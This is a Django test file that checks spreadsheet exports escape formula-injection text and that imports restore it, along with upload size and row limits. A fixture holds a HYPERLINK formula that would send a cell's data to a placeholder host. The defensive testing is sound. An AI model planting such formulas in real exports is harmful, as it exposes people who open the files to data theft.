"""Exports that are safe to open, and imports within limits.

A text a representative typed can begin with « = » (``=HYPERLINK("http://…?d="&A2,"Voir")``):
a spreadsheet program would run it. Every export writes such a text behind a « ' »
(and XLSX text as text), and the import takes the « ' » off again, so a file exported,
edited and imported changes nothing. Control characters stored before the forms
refused them are left out of exports. A file over the row or size limit is refused.
"""

import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.exceptions import ImproperlyConfigured
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils.html import escape
from django.utils.translation import gettext

from activities.models import Activity, Measure
from activities.resources import ActivityResource
from activities.tests.factories import ActivityFactory, MeasureFactory, ObjectiveFactory
from members.models import Member
from members.resources import MemberResource
from members.tests.factories import MemberFactory, TerritoryFactory
from partners.models import Partnership
from partners.resources import PartnerResource
from partners.tests.factories import OrganisationFactory, PartnershipFactory
from pole.env import env_bytes
from pole.fiscal_years import FiscalYear
from pole.formatting import format_file_size
from pole.spreadsheets.cells import SpreadsheetError, escape_formula, unescape_formula
from pole.spreadsheets.readers import SpreadsheetCSV, SpreadsheetXLSX, read_dataset
from pole.tests.spreadsheet_helpers import csv_bytes, xlsx_bytes

HYPERLINK = '=HYPERLINK("http://exemple.invalid/?d="&A2,"Voir")'
MEMBER_HEADER = (
    "nom,forme_juridique,categorie,annee_fondation,territoire,milieu,secteur,courriel,telephone,site_web,"
    "adresse,adhesions"
)

FORMATS = {"csv": SpreadsheetCSV(encoding="utf-8-sig"), "xlsx": SpreadsheetXLSX()}


def export(resource_class, file_format):
    exported = file_format.export_data(resource_class().export())
    return exported if isinstance(exported, bytes) else exported.encode("utf-8")


def reimport(resource_class, file_format, content):
    return resource_class().import_data(read_dataset(file_format, content))


def xlsx_cells(content):
    """The cells of an XLSX file's first sheet, as written (formulas not evaluated)."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [[cell for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1 418 555-0134", "'+1 418 555-0134"),
        ("-4", "'-4"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("'=1+1", "''=1+1"),
        ("'", "''"),
        ("l'Île-d'Orléans", "l'Île-d'Orléans"),
        ("'guillemet", "''guillemet"),
        ("Alimentation", "Alimentation"),
        ("", ""),
    ],
)
def test_escaping_a_text_is_undone_exactly_by_the_import(text, written):
    assert escape_formula(text) == written
    assert unescape_formula(written) == text


def test_csv_export_writes_a_formula_as_quoted_text(db):
    MemberFactory(name="Coop", territory=None, sector=HYPERLINK, address="-12, rue Principale")

    lines = export(MemberResource, FORMATS["csv"]).decode("utf-8-sig").splitlines()

    assert lines[1] == (
        'Coop,coopérative,régulier,2000,,urbain,"\'=HYPERLINK(""http://exemple.invalid/?d=""&A2,""Voir"")",'
        ',,,"\'-12, rue Principale",'
    )


def test_xlsx_export_writes_every_text_as_text_and_numbers_as_numbers(db):
    territory = TerritoryFactory(name="Portneuf")
    activity = ActivityFactory(
        start_date=datetime.date(2016, 4, 13), title="=1+1", territory=territory, place="@Québec", participants=35
    )
    MeasureFactory(activity=activity, label="+ de 50 ans", value=3, order=0)
    PartnershipFactory(organisation=OrganisationFactory(name="=Ville", website=""), amount=Decimal("15000.50"))

    activity_row = xlsx_cells(export(ActivityResource, SpreadsheetXLSX()))[1]
    partner_row = xlsx_cells(export(PartnerResource, SpreadsheetXLSX()))[1]

    assert [(cell.value, cell.data_type) for cell in activity_row] == [
        ("2016-04-13", "s"),
        (None, "n"),
        ("'=1+1", "s"),
        (None, "n"),
        ("Portneuf", "s"),
        ("'@Québec", "s"),
        ("réalisation", "s"),
        (35, "n"),
        ("'+ de 50 ans=3", "s"),
        (None, "n"),
    ]
    assert [(cell.value, cell.data_type) for cell in partner_row] == [
        ("'=Ville", "s"),
        ("public", "s"),
        ("2016-2017", "s"),
        (None, "n"),
        (15000.5, "n"),
    ]


def test_a_text_beginning_with_equals_is_never_written_as_an_xlsx_formula():
    """Even unescaped (a template, a future column), an XLSX text cell stays text."""
    import tablib

    dataset = tablib.Dataset(["=1+1", 3], headers=["texte", "nombre"])

    cells = xlsx_cells(SpreadsheetXLSX().export_data(dataset))[1]

    assert [(cell.value, cell.data_type) for cell in cells] == [("=1+1", "s"), (3, "n")]


DANGEROUS = ["=1+1", HYPERLINK, "+ de 50", "-", "@contact", "'=déjà échappé", "'apostrophe", "l'Ancienne-Lorette"]


def dangerous_members():
    territory = TerritoryFactory(name="=Territoire")
    for number, text in enumerate(DANGEROUS):
        MemberFactory(
            name=f"{text} {number}" if not text.startswith("'") else f"{text}{number}",
            territory=territory,
            sector=text,
            address=f"{text}\n2e ligne",
            fiscal_years=[2016],
        )


def dangerous_activities():
    territory = TerritoryFactory(name="@Portneuf")
    objective = ObjectiveFactory(name="=Objectif")
    for number, text in enumerate(DANGEROUS):
        activity = ActivityFactory(
            start_date=datetime.date(2016, 4, 13),
            title=f"{text}{number}",
            territory=territory,
            place=text,
            participants=number,
            objectives=[objective],
        )
        MeasureFactory(activity=activity, label=f"{text} mesure", value=number, order=0)
        activity.partners.add(OrganisationFactory(name=f"{text} partenaire {number}"))


def dangerous_partners():
    for number, text in enumerate(DANGEROUS):
        PartnershipFactory(
            organisation=OrganisationFactory(name=f"{text}{number}", website=""),
            fiscal_year=FiscalYear(2016),
            amount=Decimal(number * 100),
        )


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize(
    ("resource_class", "build", "models"),
    [
        (MemberResource, dangerous_members, [Member]),
        (ActivityResource, dangerous_activities, [Activity, Measure]),
        (PartnerResource, dangerous_partners, [Partnership]),
    ],
    ids=["members", "activities", "partners"],
)
def test_an_escaped_export_imports_back_unchanged(db, resource_class, build, models, file_format):
    build()
    snapshot = export(resource_class, FORMATS["csv"])
    exported = export(resource_class, FORMATS[file_format])
    counts = [model.objects.count() for model in models]

    result = reimport(resource_class, FORMATS[file_format], exported)

    assert result.error_messages() == []
    assert result.totals["skip"] == len(DANGEROUS)
    assert result.totals["new"] == result.totals["update"] == 0
    assert [model.objects.count() for model in models] == counts
    assert export(resource_class, FORMATS["csv"]) == snapshot


def test_a_file_escaped_by_hand_or_by_another_program_reads_the_same(db):
    """A spreadsheet program keeps the « ' »: the import takes off exactly one."""
    TerritoryFactory(name="Québec")

    result = reimport(
        MemberResource,
        FORMATS["csv"],
        csv_bytes(MEMBER_HEADER, "'=Coop,coopérative,régulier,,Québec,urbain,'-Services,,,,''=adresse,"),
    )

    assert result.error_messages() == []
    member = Member.objects.get()
    assert (member.name, member.sector.name, member.address) == ("=Coop", "-Services", "'=adresse")


def test_admin_and_command_exports_are_escaped(personnel_client, db, tmp_path):
    MemberFactory(name="Coop", territory=None, sector=HYPERLINK)

    csv_response = personnel_client.post(reverse("admin:members_member_export"), {"resource": "0", "format": "0"})
    xlsx_response = personnel_client.post(reverse("admin:members_member_export"), {"resource": "0", "format": "1"})
    call_command("export", "members.resources.MemberResource", "--format", "XLSX", "-o", str(tmp_path / "m.xlsx"))

    assert "'=HYPERLINK" in csv_response.content.decode("utf-8-sig")
    for content in (xlsx_response.content, (tmp_path / "m.xlsx").read_bytes()):
        sector = xlsx_cells(content)[1][6]
        assert (sector.value, sector.data_type) == ("'" + HYPERLINK, "s")


# Control characters stored before the forms refused them


def test_exports_leave_out_control_characters_stored_earlier(db):
    # (PostgreSQL cannot store U+0000 at all.)
    MemberFactory(name="Coop\x0b", territory=None, address="12, rue\x0b\x1f Principale\x7f\x85", sector="Ali\x01ment")

    xlsx = export(MemberResource, SpreadsheetXLSX())
    csv = export(MemberResource, FORMATS["csv"])

    assert [cell.value for cell in xlsx_cells(xlsx)[1]][0:1] == ["Coop"]
    assert xlsx_cells(xlsx)[1][10].value == "12, rue Principale"
    assert xlsx_cells(xlsx)[1][6].value == "Aliment"
    assert "12, rue Principale" in csv.decode("utf-8-sig")
    # The CSV imports again: nothing it holds is refused.
    result = reimport(MemberResource, FORMATS["csv"], csv)
    assert result.error_messages() == []


def test_admin_xlsx_export_works_despite_a_control_character(personnel_client, db):
    MemberFactory(name="Coop", territory=None, address="\x0b\x1f")

    response = personnel_client.post(reverse("admin:members_member_export"), {"resource": "0", "format": "1"})

    assert response.status_code == 200
    assert xlsx_cells(response.content)[1][0].value == "Coop"


# Limits of an upload


@pytest.fixture
def small_limits(settings):
    settings.POLE_IMPORT_MAX_ROWS = 3
    settings.POLE_IMPORT_MAX_BYTES = 20_000
    return settings


# The messages as the catalogue gives them (French once translated).
def too_many_rows_message():
    return gettext(
        "This file has more than {limit} rows, more than an import accepts: split it into files of {limit} rows "
        "at most."
    ).format(limit="3")


def too_large_message(size):
    return gettext("This file is larger than the {limit} an import accepts: split it into smaller files.").format(
        limit=format_file_size(20_000)
    )


def member_lines(count):
    return [f"Coop {number},coopérative,régulier,,,urbain,,,,,," for number in range(count)]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_file_over_the_row_limit_is_refused_in_french(small_limits, db, file_format):
    if file_format == "csv":
        content = csv_bytes(MEMBER_HEADER, *member_lines(4))
    else:
        content = xlsx_bytes([MEMBER_HEADER.split(","), *(line.split(",") for line in member_lines(4))])

    with pytest.raises(SpreadsheetError) as refused:
        read_dataset(FORMATS[file_format], content)

    assert str(refused.value) == too_many_rows_message()


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_blank_lines_do_not_count_toward_the_row_limit(small_limits, db, file_format):
    lines = [*member_lines(3)]
    if file_format == "csv":
        content = csv_bytes(MEMBER_HEADER, lines[0], "", lines[1], ",,,,,,,,,,,", lines[2], "")
    else:
        blank = [None] * 12
        content = xlsx_bytes(
            [MEMBER_HEADER.split(","), lines[0].split(","), blank, lines[1].split(","), lines[2].split(","), blank]
        )

    result = reimport(MemberResource, FORMATS[file_format], content)

    assert result.error_messages() == []
    assert Member.objects.count() == 3


def test_the_admin_refuses_a_file_over_the_limits_in_french(personnel_client, small_limits):
    url = reverse("admin:members_member_import")
    too_long = csv_bytes(MEMBER_HEADER, *member_lines(4))
    too_large = csv_bytes(MEMBER_HEADER, "Coop,coopérative,régulier,,,urbain,,,,," + "x" * 21_000 + ",")

    long_response = personnel_client.post(
        url, {"resource": "0", "format": "0", "import_file": SimpleUploadedFile("membres.csv", too_long)}
    )
    large_response = personnel_client.post(
        url, {"resource": "0", "format": "0", "import_file": SimpleUploadedFile("membres.csv", too_large)}
    )

    assert escape(too_many_rows_message()) in long_response.content.decode()
    assert escape(too_large_message(len(too_large))) in large_response.content.decode()
    assert "confirm_form" not in long_response.context and "confirm_form" not in large_response.context
    assert Member.objects.count() == 0


def test_the_command_refuses_a_file_over_the_limits(small_limits, db, tmp_path):
    too_long = tmp_path / "longs.csv"
    too_long.write_bytes(csv_bytes(MEMBER_HEADER, *member_lines(4)))
    too_large = tmp_path / "gros.csv"
    too_large.write_bytes(b"x" * 20_001)

    with pytest.raises(CommandError) as refused_long:
        call_command("import", "members.resources.MemberResource", str(too_long), "--no-input")
    with pytest.raises(CommandError) as refused_large:
        call_command("import", "members.resources.MemberResource", str(too_large), "--no-input")
    assert str(refused_long.value) == too_many_rows_message()
    assert str(refused_large.value) == too_large_message(20_001)
    assert Member.objects.count() == 0


@pytest.mark.parametrize(
    ("value", "size"),
    [("", 7), ("2000", 2000), ("512k", 512 * 1024), ("10M", 10 * 1024**2), ("10 MB", 10 * 1024**2), ("1g", 1024**3)],
)
def test_sizes_are_read_from_the_environment(monkeypatch, value, size):
    monkeypatch.setenv("POLE_TEST_SIZE", value)

    assert env_bytes("POLE_TEST_SIZE", 7) == size


@pytest.mark.parametrize("value", ["dix", "10 TB", "-5", "0"])
def test_a_bad_size_stops_the_start(monkeypatch, value):
    monkeypatch.setenv("POLE_TEST_SIZE", value)

    with pytest.raises(ImproperlyConfigured, match="POLE_TEST_SIZE"):
        env_bytes("POLE_TEST_SIZE", 7)


def test_a_value_right_of_the_last_named_column_is_refused_not_dropped(db):
    """An XLSX cell beyond the named columns was dropped unseen, where CSV named the line."""
    header = list(MemberResource.columns())
    row = ["Coop A", "coopérative", "régulier", 1987, "", "urbain", "", "", "", "", "", "2016-2017", "", "perdu"]
    with pytest.raises(SpreadsheetError) as caught:
        read_dataset(SpreadsheetXLSX(), xlsx_bytes([header, row]))
    assert str(caught.value) == "La ligne 2 a une valeur dans la colonne 14, qui n’a pas de nom sur la première ligne."
    # Empty cells there are nothing.
    assert len(read_dataset(SpreadsheetXLSX(), xlsx_bytes([header, row[:-1]]))) == 1
